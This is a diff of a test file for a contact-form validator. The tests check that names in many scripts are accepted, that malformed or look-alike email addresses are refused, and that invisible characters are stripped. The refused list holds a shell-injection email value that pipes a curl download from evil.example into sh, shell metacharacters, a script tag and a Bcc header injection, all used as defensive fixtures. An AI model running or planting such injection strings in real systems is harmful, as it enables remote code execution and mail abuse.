@@ -26,17 +26,50 @@ describe('a message', () => {
     subject: ['Ọlábísí', 'Ngozi 👩🏾‍🌾'],
     message: ['one\n\ttwo <script>alert(1)</script>'],
   };
-  // Separated by spaces; ␣ stands for one.
-  const refused: Partial<Record<FieldName, string>> = {
-    phone: 'call␣me 12 + 0803\u2028000',
-    subject: 'a\nb a\rb a\0b a\u001bb a\u2028b a\ud800b',
-    email: `a ada.example.com "a␣b"@b.co a@b @b.co a@b..co a␣b@c.co a@b.co,␣c@d.co a@b.co@c.co a@b.co␣<c@d.co>
-      a<b@c.co a@-b.co ada@my”farm.example ada…@visitor.example ada@visitor™.example ada²@visitor.example 'ada'@visitor.example
-      adaª@visitor.example ada@visitor1⁄2.example a!b@b.co =?utf-8?q?a?=@b.co Ada␣<ada@visitor.example>␣and␣<obi@visitor.example>
-      a@${'ọlá.'.repeat(30)}ng ada@visitor.ex${'\u0430'}mple ${'\u0430'}da@visitor.example a${'\u{e0041}'}@b.co
-      a@${'\u0301'}b.example ${'\u0301'}a@b.co ${'`curl$'}{IFS}evil.example|sh${'`'}@visitor.example
-      ${[...'`$|&{}'].map((sign) => `a${sign}b@b.co`).join(' ')}
-      ${[...'–*_~=/+-#%^?.ˈˌـーªºʰⁿ'].map((sign) => `${sign}ada@visitor.example`).join(' ')}`,
+  const refused: Partial<Record<FieldName, readonly string[]>> = {
+    phone: ['call me', '12', '+', '0803\u2028000'],
+    subject: ['a\nb', 'a\rb', 'a\0b', 'a\u001bb', 'a\u2028b', 'a\ud800b'],
+    email: [
+      'a',
+      'ada.example.com',
+      'a@b',
+      '@b.co',
+      'a@b..co',
+      'a@-b.co',
+      'a@b.co@c.co',
+      `a@${'ọlá.'.repeat(30)}ng`,
+      'a b@c.co',
+      '"a b"@b.co',
+      'a@b.co, c@d.co',
+      'a@b.co <c@d.co>',
+      'a<b@c.co',
+      'Ada <ada@visitor.example> and <obi@visitor.example>',
+      // Typographic quotes and dashes, wide letters, and signs that could mean anything.
+      'ada@my”farm.example',
+      'ada@visitor.example”',
+      '‹ada@visitor.example›',
+      '‘ada@visitor.example’',
+      'ada@my–farm.example',
+      'ada…@visitor.example',
+      "'ada'@visitor.example",
+      'oʻbꞌr’ien@visitor.example',
+      '＜ada＠visitor．example＞',
+      'ａda@visitor.example',
+      'oﬃce@visitor.example',
+      'ada@visitor™.example',
+      'ada²@visitor.example',
+      'adaª@visitor.example',
+      'ada@visitor1⁄2.example',
+      'a\u{e0041}@b.co',
+      'a@\u0301b.example',
+      '\u0301a@b.co',
+      'a!b@b.co',
+      '=?utf-8?q?a?=@b.co',
+      // What a shell would read as a command.
+      `\`curl\${IFS}evil.example|sh\`@visitor.example`,
+      ...[...'`$|&{}'].map((sign) => `a${sign}b@b.co`),
+      ...[...'–*_~=/+-#%^?.ˈˌـーªºʰⁿ'].map((sign) => `${sign}ada@visitor.example`),
+    ],
   };
   it('takes names in every script, addresses that can be answered and phone numbers as people write them', () => {
     for (const [name, texts] of Object.entries(accepted))
@@ -45,33 +78,24 @@ describe('a message', () => {
 
   it('says what is wrong with others', () => {
     for (const [name, texts] of Object.entries(refused))
-      for (const text of texts.split(name === 'subject' ? ' ' : /[ \n]+/)) {
-        const errors = errorsOf({ [name]: text.replaceAll('␣', ' ') });
-        assert.deepEqual(Object.keys(errors), [name], JSON.stringify(text));
-      }
+      for (const text of texts)
+        assert.deepEqual(Object.keys(errorsOf({ [name]: text })), [name], JSON.stringify(text));
     assert.equal(errorsOf({ email: 'a' }).email, 'Enter an email address in the form name@example.com');
     assert.ok(errorsOf({ email: 'a@b.co\r\nBcc: x@y.z' }).email);
   });
 
   it('is mended where only one reading is possible, and taken without signs that nobody can see', () => {
     const mended: readonly (readonly [FieldName, typed: string, kept: string])[] = [
-      ['email', 'ada@visitor.example”', 'ada@visitor.example'],
+      ['email', '\t ada@visitor.example\u00a0\n', 'ada@visitor.example'],
       ['email', '\u202aada@visitor.example\u202c\u200b', 'ada@visitor.example'],
       ['email', 'a\u180ed\u3164a\u2061@visitor.example', 'ada@visitor.example'],
       ['email', 'a\u200bd\u200da@vis\u00aditor\ufeff.example', 'ada@visitor.example'],
       ['email', 'ada@می\u200cخواهم.example', 'ada@می\u200cخواهم.example'],
       ['email', 'ada@visitor.example.', 'ada@visitor.example'],
-      ['email', 'ada@visitor.example\u037e،', 'ada@visitor.example'],
-      ['email', '＜ada＠visitor．example＞', 'ada@visitor.example'],
-      ['email', '"Obi, Ada" <ada@visitor.example>,', 'ada@visitor.example'],
-      ['email', '<ada@visitor.example', 'ada@visitor.example'],
-      ['email', '‹Mailto:ada@visitor.example›.', 'ada@visitor.example'],
-      ['email', '❝〝ada@visitor.example″〞', 'ada@visitor.example'],
-      ['email', "`'ada@visitor.example'`", 'ada@visitor.example'],
-      ['email', 'oʻbꞌr’ien@visitor.example', "o'b'r'ien@visitor.example"],
-      ['email', 'ada٢٠@visitor.example', 'ada20@visitor.example'],
-      ['email', 'ada@my–farm.example', 'ada@my-farm.example'],
-      ['email', 'oﬃce＠visitor。example', 'office@visitor.example'],
+      ['email', 'Obi Ada <ada@visitor.example>,', 'ada@visitor.example'],
+      ['email', '"Obi, Ada" < ada@visitor.example >', 'ada@visitor.example'],
+      ['email', '<Mailto:ada@visitor.example>.', 'ada@visitor.example'],
+      ['email', 'mailto: ada@visitor.example', 'ada@visitor.example'],
       ['phone', '\u202a+234\u2060803\u00ad000\ufe0d0000\u202c', '+2348030000000'],
       ['phone', '0803\u2010000\u20150000', '0803-000-0000'],
       ['phone', '０８０３\t０００\u00a0００００', '0803 000 0000'],
